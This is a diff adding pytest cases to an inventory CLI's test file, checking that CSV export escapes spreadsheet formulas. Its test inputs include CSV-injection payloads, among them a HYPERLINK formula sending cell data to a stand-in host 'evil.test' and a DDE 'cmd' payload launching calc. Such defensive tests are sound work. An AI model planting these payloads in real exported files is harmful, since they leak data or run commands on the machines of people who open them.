@@ -1,6 +1,8 @@
 """`inventory history`: every movement with its cause and its actor, and where it stops."""
 
+import csv
 from collections.abc import Iterator
+from io import StringIO
 from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
@@ -90,6 +92,34 @@ def test_a_query_has_a_limit_too(terminal: Terminal, athena: Athena) -> None:
     assert len(as_csv.out.splitlines()) == 2
     assert "there are more" in as_csv.err
     assert "more" not in terminal.run("query", "movements", "--limit", "2").err
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("https://evil.test/?"&A1,"ok")',
+        "+SUM(1)",
+        "-1+cmd|'/C calc'!A0",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "-",
+        "-espresso",
+    ],
+)
+def test_a_spreadsheet_calculates_nothing_that_users_wrote(terminal: Terminal, athena: Athena, cell: str) -> None:
+    athena.rows = (("reason",), (cell,))
+    told = terminal.run("query", "movements", "--csv").out
+    assert list(csv.reader(StringIO(told, newline=""))) == [["reason"], [f"'{cell}".replace("\r", "\n")]]
+    assert terminal.run("query", "movements", "--json").json == [{"reason": cell}]
+
+
+@pytest.mark.parametrize("cell", ["-2", "+2", "-2.50", "-1.0E-5", "cup-7", "PO =7", "", None])
+def test_numbers_and_texts_that_are_no_formula_stay_as_they_are(
+    terminal: Terminal, athena: Athena, cell: str | None
+) -> None:
+    athena.rows = (("one", "two"), (cell, "x"))
+    assert terminal.run("query", "movements", "--csv").out == f"one,two\n{cell or ''},x\n"
 
 
 def test_what_never_moved_says_so(terminal: Terminal, athena: Athena) -> None:
